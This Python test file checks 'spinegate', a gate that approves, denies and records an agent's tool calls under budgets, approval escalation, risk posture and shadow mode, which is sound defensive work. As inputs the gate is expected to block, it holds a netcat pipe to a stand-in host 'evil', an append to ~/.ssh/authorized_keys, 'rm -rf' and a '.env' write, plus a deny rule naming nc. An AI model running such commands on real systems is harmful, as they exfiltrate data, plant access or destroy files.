"""The gate with v1.1 policy: argument rules, budgets, escalation, posture and shadow mode.

Every scenario's log must verify and every receipt must fit the sibling schema.
"""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from policy_support import BASE, HOME, entry, identity

from spinegate import Approval, ApprovalRequest, Gate, ReceiptLogError, ToolCall
from spinegate.classifier import EffectClassifier
from spinegate.decision import Verdict
from spinegate.effects import EffectClass, Posture
from spinegate.manifest_file import load_manifest

Receipts = Callable[[Path], list[dict[str, Any]]]

FUNCTIONS = [
    entry("Shell", "Run", "SHELL_SAFE", command_argument="command"),
    entry("Shell", "Ask", "SHELL_SAFE", command_argument="command", exceed_declared="escalate"),
    entry("Shell", "Any", "SHELL_SAFE", command_argument="command", exceed_declared="allow"),
    entry("Files", "Write", "SCOPED_WRITE", path_arguments=["path"], writable_roots=["docs"]),
    entry("Files", "Read", "SHELL_SAFE"),
    entry("Files", "Limited", "SHELL_SAFE", max_calls_per_session=2),
    entry("Web", "Fetch", "NETWORK_ATTEMPT"),
    entry("Web", "Blocked", "NETWORK_ATTEMPT", False),
    entry("Files", "Delete", "SHELL_DANGEROUS", False),
    entry("Deploy", "Ship", "SHELL_MUTATING", requires_confirmation=True),
]


def classifier(manifest: Path) -> EffectClassifier:
    return EffectClassifier.for_manifest(load_manifest(manifest), base_dir=BASE, resolver=identity, home=HOME,
                                         case_insensitive=False)


@pytest.fixture
def manifest(write_manifest: Callable[..., Path]) -> Path:
    return write_manifest(FUNCTIONS, shell={"allow": [], "deny": ["nc"]})


@pytest.fixture
def gate(open_gate: Callable[..., Gate], manifest: Path) -> Gate:
    return open_gate(manifest, classifier=classifier(manifest))


def call(plugin: str, function: str, **arguments: Any) -> ToolCall:
    return ToolCall(function=function, plugin=plugin, arguments=arguments)


# -- argument rules -------------------------------------------------------------------------------------------


def test_command_lines_are_classified_and_recorded(gate: Gate, tmp_path: Path, receipts_ok: Receipts) -> None:
    ok = gate.check(call("Shell", "Run", command="git status | grep x"))
    assert ok.approved and ok.effect_class is EffectClass.SHELL_SAFE
    bad = gate.check(call("Shell", "Run", command="ls && rm -rf build"))
    assert bad.denied and bad.reason == "EFFECT_EXCEEDS_DECLARED"
    assert bad.effect_class is EffectClass.SHELL_DANGEROUS and "rm -rf build" in bad.rule
    denied_prog = gate.check(call("Shell", "Any", command="ls | nc evil 1"))
    assert denied_prog.reason == "COMMAND_DENIED"
    anything = gate.check(call("Shell", "Any", command="rm -rf build"))
    assert anything.approved and anything.effect_class is EffectClass.SHELL_DANGEROUS
    missing = gate.check(call("Shell", "Run"))
    assert missing.reason == "EFFECT_CLASS_UNKNOWN"
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    assert [r["action"]["command"] for r in rows[:4]] == [
        "git status | grep x", "ls && rm -rf build", "ls | nc evil 1", "rm -rf build"]
    assert rows[1]["action"]["effect_class"] == "SHELL_DANGEROUS"
    assert rows[1]["result"]["blocked_by"] == "EFFECT_EXCEEDS_DECLARED"
    assert rows[3]["action"]["target_paths"] == ["/work/proj/build"]


def test_restricted_and_outside_root_writes(gate: Gate, tmp_path: Path, receipts_ok: Receipts) -> None:
    ok = gate.check(call("Files", "Write", path="docs/./a/../b.md"))
    assert ok.approved and ok.target_paths == ("/work/proj/docs/b.md",)
    env = gate.check(call("Files", "Write", path="docs/../.env"))
    assert env.reason == "RESTRICTED_WRITE_FORBIDDEN" and env.effect_class is EffectClass.RESTRICTED_WRITE
    out = gate.check(call("Files", "Write", path="src/app.py"))
    assert out.reason == "WRITE_OUTSIDE_ALLOWED_ROOTS"
    redirect = gate.check(call("Shell", "Any", command="echo x >> ~/.ssh/authorized_keys"))
    assert redirect.reason == "RESTRICTED_WRITE_FORBIDDEN"
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    assert rows[0]["action"]["target_paths"] == ["/work/proj/docs/b.md"]
    assert rows[1]["action"]["target_paths"] == ["/work/proj/.env"]
    assert rows[3]["action"]["target_paths"] == [f"{HOME}/.ssh/authorized_keys"]
    assert rows[0]["budget_snapshot"]["files_touched"] == 1


def test_escalation_on_exceeding_the_declared_effect(open_gate: Callable[..., Gate], manifest: Path,
                                                      tmp_path: Path, receipts_ok: Receipts) -> None:
    asked: list[ApprovalRequest] = []

    def approver(request: ApprovalRequest) -> Approval:
        asked.append(request)
        return Approval(True, by="alice", note="cleanup is fine")

    gate = open_gate(manifest, classifier=classifier(manifest), approver=approver)
    assert gate.check(call("Shell", "Ask", command="ls")).approved and not asked
    d = gate.check(call("Shell", "Ask", command="mkdir build"))
    assert d.approved and d.decided_by == "alice"
    assert asked[0].effect_class is EffectClass.SHELL_MUTATING
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    assert "approved by alice" in rows[1]["action"]["description"]
    assert "cleanup is fine" in rows[1]["action"]["description"]


# -- budgets -----------------------------------------------------------------------------------------------------


def test_max_calls_per_session(gate: Gate, tmp_path: Path, receipts_ok: Receipts) -> None:
    results = [gate.check(call("Files", "Limited")) for _ in range(3)]
    assert [r.approved for r in results] == [True, True, False]
    assert results[2].reason == "MAX_CALLS_EXCEEDED"
    receipts_ok(tmp_path / "receipts.jsonl")


def test_step_budget_and_steps_remaining(open_gate: Callable[..., Gate], manifest: Path, tmp_path: Path,
                                         receipts_ok: Receipts) -> None:
    gate = open_gate(manifest, max_steps=3)
    decisions = [gate.check(call("Files", "Read")) for _ in range(4)]
    assert [d.reason for d in decisions] == [None, None, None, "BUDGET_EXHAUSTED"]
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    assert [r["budget_snapshot"]["steps_remaining"] for r in rows] == [2, 1, 0, 0]
    assert [r["budget_snapshot"]["steps_used"] for r in rows] == [1, 2, 3, 4]
    assert gate.budget()["steps_remaining"] == 0


def test_command_and_write_budgets_from_the_manifest(write_manifest: Callable[..., Path],
                                                     open_gate: Callable[..., Gate], tmp_path: Path,
                                                     receipts_ok: Receipts) -> None:
    m = write_manifest(FUNCTIONS, budgets={"max_commands": 2, "max_writes": 1, "max_steps": None})
    gate = open_gate(m, classifier=classifier(m))
    assert gate.limits.max_commands == 2 and gate.limits.max_writes == 1 and gate.limits.max_steps is None
    assert gate.check(call("Files", "Write", path="docs/a")).approved
    w = gate.check(call("Files", "Write", path="docs/b"))
    assert w.reason == "BUDGET_EXHAUSTED" and "write budget" in w.rule
    assert gate.check(call("Shell", "Run", command="ls")).approved
    assert gate.check(call("Shell", "Run", command="pwd")).approved
    c = gate.check(call("Shell", "Run", command="ls"))
    assert c.reason == "BUDGET_EXHAUSTED" and "command budget" in c.rule
    snap = receipts_ok(tmp_path / "receipts.jsonl")[-1]["budget_snapshot"]
    assert snap["commands_used"] == 3 and snap["writes_used"] == 2


def test_explicit_budget_arguments_override_the_manifest(write_manifest: Callable[..., Path],
                                                         open_gate: Callable[..., Gate]) -> None:
    m = write_manifest(FUNCTIONS, budgets={"max_steps": 2})
    assert open_gate(m).limits.max_steps == 2
    assert open_gate(m, log="other.jsonl", max_steps=7).limits.max_steps == 7


def test_concurrent_calls_cannot_overrun_the_step_budget(open_gate: Callable[..., Gate], manifest: Path,
                                                         tmp_path: Path, receipts_ok: Receipts) -> None:
    gate = open_gate(manifest, max_steps=5)
    barrier = threading.Barrier(16)
    results: list[bool] = []

    def worker() -> None:
        barrier.wait()
        results.append(gate.check(call("Files", "Read")).approved)

    threads = [threading.Thread(target=worker) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sum(results) <= 5 and len(results) == 16
    receipts_ok(tmp_path / "receipts.jsonl")


# -- escalation --------------------------------------------------------------------------------------------------


def _ship() -> ToolCall:
    return call("Deploy", "Ship", target="prod")


def test_no_approver_denies(gate: Gate, tmp_path: Path, receipts_ok: Receipts) -> None:
    d = gate.check(_ship())
    assert d.denied and d.reason == "APPROVAL_REQUIRED" and "no approver" in d.rule
    assert receipts_ok(tmp_path / "receipts.jsonl")[0]["result"]["blocked_by"] == "APPROVAL_REQUIRED"


def test_sync_approver_approves_and_refuses(open_gate: Callable[..., Gate], manifest: Path, tmp_path: Path,
                                            receipts_ok: Receipts) -> None:
    answers = iter([True, Approval(False, by="bob", note="not on a Friday")])
    gate = open_gate(manifest, approver=lambda request: next(answers))
    yes = gate.check(_ship())
    no = gate.check(_ship())
    assert yes.approved and yes.decided_by == "approver"
    assert no.denied and no.reason == "APPROVAL_DENIED" and no.decided_by == "bob"
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    assert "approved by approver" in rows[0]["action"]["description"]
    assert "refused by bob: not on a Friday" in rows[1]["action"]["description"]
    assert rows[1]["result"]["blocked_by"] == "APPROVAL_DENIED"


async def test_async_approver_with_acheck(open_gate: Callable[..., Gate], manifest: Path, tmp_path: Path,
                                          receipts_ok: Receipts) -> None:
    async def approver(request: ApprovalRequest) -> Approval:
        await asyncio.sleep(0)
        return Approval(request.call.arguments["target"] == "staging", by="async-bot")

    gate = open_gate(manifest, approver=approver)
    assert (await gate.acheck(call("Deploy", "Ship", target="staging"))).approved
    refused = await gate.acheck(_ship())
    assert refused.reason == "APPROVAL_DENIED" and refused.decided_by == "async-bot"
    receipts_ok(tmp_path / "receipts.jsonl")


def test_async_approver_with_sync_check(open_gate: Callable[..., Gate], manifest: Path) -> None:
    async def approver(request: ApprovalRequest) -> bool:
        return True

    assert open_gate(manifest, approver=approver).check(_ship()).approved


@pytest.mark.parametrize("mode", ["sync", "async"])
async def test_approver_timeout_denies(open_gate: Callable[..., Gate], manifest: Path, tmp_path: Path,
                                       receipts_ok: Receipts, mode: str) -> None:
    release = threading.Event()

    def slow(request: ApprovalRequest) -> bool:
        release.wait(5)
        return True

    gate = open_gate(manifest, approver=slow, approval_timeout=0.05)
    try:
        d = gate.check(_ship()) if mode == "sync" else await gate.acheck(_ship())
    finally:
        release.set()
    assert d.denied and d.reason == "APPROVAL_TIMEOUT"
    receipts_ok(tmp_path / "receipts.jsonl")


@pytest.mark.parametrize("answer", [RuntimeError("approver crashed"), "yes", None])
async def test_approver_error_or_nonsense_denies(open_gate: Callable[..., Gate], manifest: Path, tmp_path: Path,
                                                 receipts_ok: Receipts, answer: object) -> None:
    def approver(request: ApprovalRequest) -> Any:
        if isinstance(answer, BaseException):
            raise answer
        return answer

    gate = open_gate(manifest, approver=approver)
    for d in (gate.check(_ship()), await gate.acheck(_ship())):
        assert d.denied and d.reason == "APPROVER_ERROR"
    receipts_ok(tmp_path / "receipts.jsonl")


def test_calls_waiting_for_approval_together_cannot_overrun_max_calls(write_manifest: Callable[..., Path],
                                                                       open_gate: Callable[..., Gate],
                                                                       tmp_path: Path, receipts_ok: Receipts) -> None:
    # Both calls pass the budget check, then wait for the approver at the same time;
    # only one may run, since max_calls_per_session is 1.
    m = write_manifest([entry("Deploy", "Ship", "SHELL_MUTATING", requires_confirmation=True,
                              max_calls_per_session=1)])
    both_waiting = threading.Barrier(2, timeout=5)

    def approver(request: ApprovalRequest) -> bool:
        both_waiting.wait()
        return True

    gate = open_gate(m, approver=approver)
    results: list[Any] = []
    threads = [threading.Thread(target=lambda: results.append(gate.check(_ship()))) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(d.approved for d in results) == [False, True]
    assert [d.reason for d in results if d.denied] == ["MAX_CALLS_EXCEEDED"]
    receipts_ok(tmp_path / "receipts.jsonl")


def test_posture_that_tightens_while_waiting_for_approval_wins(open_gate: Callable[..., Gate],
                                                               manifest: Path) -> None:
    holder: dict[str, Gate] = {}

    def approver(request: ApprovalRequest) -> bool:
        holder["gate"].set_posture(Posture.LOCKDOWN, by="ops")
        return True

    gate = holder["gate"] = open_gate(manifest, approver=approver)
    d = gate.check(_ship())
    assert d.denied and d.reason == "LOCKDOWN_ALLOWS_SHELL_SAFE_ONLY"


# -- risk and posture ---------------------------------------------------------------------------------------------


def test_risk_accumulates_and_posture_tightens_on_its_own(gate: Gate, tmp_path: Path,
                                                          receipts_ok: Receipts) -> None:
    assert gate.check(call("Files", "Read")).approved
    for _ in range(2):
        assert gate.check(call("Web", "Blocked")).reason == "MANIFEST_DENIED"
    assert gate.posture is Posture.ELEVATED
    assert gate.check(call("Web", "Fetch")).reason == "ELEVATED_BLOCKS_NETWORK"
    assert gate.posture is Posture.ELEVATED  # 0.45 < 0.5
    assert gate.check(call("Web", "Fetch")).reason == "ELEVATED_BLOCKS_NETWORK"
    assert gate.posture is Posture.LOCKDOWN  # 0.6 >= 0.5
    assert gate.check(call("Files", "Read")).approved  # SHELL_SAFE still runs
    assert gate.check(call("Deploy", "Ship")).reason == "LOCKDOWN_ALLOWS_SHELL_SAFE_ONLY"
    for _ in range(3):
        gate.check(call("Files", "Read"))
    assert gate.posture is Posture.LOCKDOWN  # never loosens by itself
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    snaps = [(r["budget_snapshot"]["current_posture"], r["budget_snapshot"]["session_risk_score"]) for r in rows[:5]]
    assert snaps == [("NORMAL", 0.0), ("NORMAL", 0.15), ("ELEVATED", 0.3), ("ELEVATED", 0.45), ("LOCKDOWN", 0.6)]
    assert "tightened automatically from NORMAL to ELEVATED" in rows[2]["action"]["description"]
    assert "from ELEVATED to LOCKDOWN" in rows[4]["action"]["description"]
    assert "tightened" not in rows[3]["action"]["description"]
    # every decision carries its class's risk delta; only denials add it to the score
    assert rows[0]["action"]["risk_delta"] == 0.01 and rows[1]["action"]["risk_delta"] == 0.15


def test_operator_posture_change_writes_a_posture_receipt(gate: Gate, tmp_path: Path,
                                                         receipts_ok: Receipts) -> None:
    d = gate.check(call("Web", "Fetch"))
    changed = gate.set_posture("ELEVATED", by="ops-oncall")
    assert gate.check(call("Web", "Fetch")).reason == "ELEVATED_BLOCKS_NETWORK"
    gate.set_posture(Posture.NORMAL, by="ops-oncall", note="incident closed")
    gate.record_outcome(d, output="ok")
    assert gate.check(call("Web", "Fetch")).approved
    with pytest.raises(ValueError):
        gate.set_posture("RELAXED")
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    assert [r["action"]["operation"] for r in rows] == ["decision", "posture", "decision", "posture", "outcome",
                                                      "decision"]
    assert rows[1]["receipt_id"] == changed.receipt_id and rows[1]["result"]["status"] == "success"
    assert rows[1]["action"]["description"] == "posture set from NORMAL to ELEVATED by ops-oncall"
    assert rows[1]["budget_snapshot"]["current_posture"] == "ELEVATED"
    assert rows[3]["action"]["description"] == "posture set from ELEVATED to NORMAL by ops-oncall: incident closed"
    assert all("posture set" not in r["action"]["description"] for r in rows if r["action"]["operation"] != "posture")


def test_restoring_the_posture_resets_the_risk_on_the_record(gate: Gate, tmp_path: Path,
                                                            receipts_ok: Receipts) -> None:
    for _ in range(4):
        gate.check(call("Web", "Blocked"))
    assert gate.posture is Posture.LOCKDOWN and gate.budget()["session_risk_score"] > 0.5
    restored = gate.restore_posture(by="alice (new prompt)")
    assert gate.posture is Posture.NORMAL and gate.budget()["session_risk_score"] == 0.0
    assert gate.check(call("Web", "Fetch")).approved
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    posture = rows[4]
    assert posture["receipt_id"] == restored.receipt_id and posture["action"]["operation"] == "posture"
    assert posture["action"]["description"] == ("posture restored from LOCKDOWN to NORMAL by alice (new prompt); "
                                                "session risk reset to 0")
    assert posture["budget_snapshot"]["session_risk_score"] == 0.0
    assert posture["budget_snapshot"]["current_posture"] == "NORMAL"
    assert posture["budget_snapshot"]["steps_used"] == 4  # a posture change is not a step


def test_a_posture_change_that_cannot_be_recorded_changes_nothing(gate: Gate) -> None:
    gate.close()
    with pytest.raises(ReceiptLogError, match="the posture was not changed"):
        gate.set_posture("LOCKDOWN")
    assert gate.posture is Posture.NORMAL


def test_thresholds_and_deltas_from_the_manifest(write_manifest: Callable[..., Path],
                                                 open_gate: Callable[..., Gate]) -> None:
    m = write_manifest(FUNCTIONS, risk={"deltas": {"NETWORK_ATTEMPT": 0.5}, "elevated_at": 0.4,
                                        "lockdown_at": 0.9})
    gate = open_gate(m)
    assert gate.check(call("Web", "Blocked")).denied
    assert gate.posture is Posture.ELEVATED
    assert gate.check(call("Web", "Blocked")).denied
    assert gate.posture is Posture.LOCKDOWN
    assert gate.budget()["session_risk_score"] == 1.0


def test_resumed_session_keeps_the_tighter_posture(write_manifest: Callable[..., Path],
                                                   open_gate: Callable[..., Gate], tmp_path: Path,
                                                   receipts_ok: Receipts) -> None:
    m = write_manifest(FUNCTIONS)
    first = open_gate(m)
    for _ in range(4):
        first.check(call("Web", "Blocked"))
    assert first.posture is Posture.LOCKDOWN
    first.close()
    again = open_gate(m, session_id=first.session_id)
    assert again.posture is Posture.LOCKDOWN
    assert again.check(call("Web", "Fetch")).reason == "LOCKDOWN_ALLOWS_SHELL_SAFE_ONLY"
    receipts_ok(tmp_path / "receipts.jsonl")


# -- shadow mode -------------------------------------------------------------------------------------------------


def test_shadow_mode_decides_records_and_does_not_block(open_gate: Callable[..., Gate], manifest: Path,
                                                        tmp_path: Path, receipts_ok: Receipts) -> None:
    gate = open_gate(manifest, shadow=True, classifier=classifier(manifest))
    would_deny = gate.check(call("Files", "Delete"))
    assert would_deny.approved and would_deny.shadow and would_deny.would_have is Verdict.DENY
    assert would_deny.reason == "MANIFEST_DENIED"
    fine = gate.check(call("Files", "Read"))
    assert fine.approved and fine.shadow and fine.would_have is Verdict.APPROVE
    refused = gate.deny(call("Files", "Read"), "BAD_ARGUMENTS", "arguments were not JSON")
    assert refused.denied  # adapter refusals are enforced even in shadow mode
    rows = receipts_ok(tmp_path / "receipts.jsonl")
    assert [r["action"]["operation"] for r in rows] == ["shadow_decision", "shadow_decision", "decision"]
    assert rows[0]["action"]["description"].startswith("SHADOW (not enforced): would deny Files.Delete")
    assert rows[1]["action"]["description"].startswith("SHADOW (not enforced): approved")
    assert rows[0]["result"]["status"] == "success" and rows[0]["result"]["blocked_by"] is None
    assert rows[2]["result"]["status"] == "blocked"
    for r in rows[:2]:
        assert r["action"]["operation"] != "decision"


def test_enforced_receipts_never_look_like_shadow_ones(gate: Gate, tmp_path: Path, receipts_ok: Receipts) -> None:
    gate.check(call("Files", "Delete"))
    gate.check(call("Files", "Read"))
    for r in receipts_ok(tmp_path / "receipts.jsonl"):
        assert r["action"]["operation"] == "decision" and "SHADOW" not in r["action"]["description"]
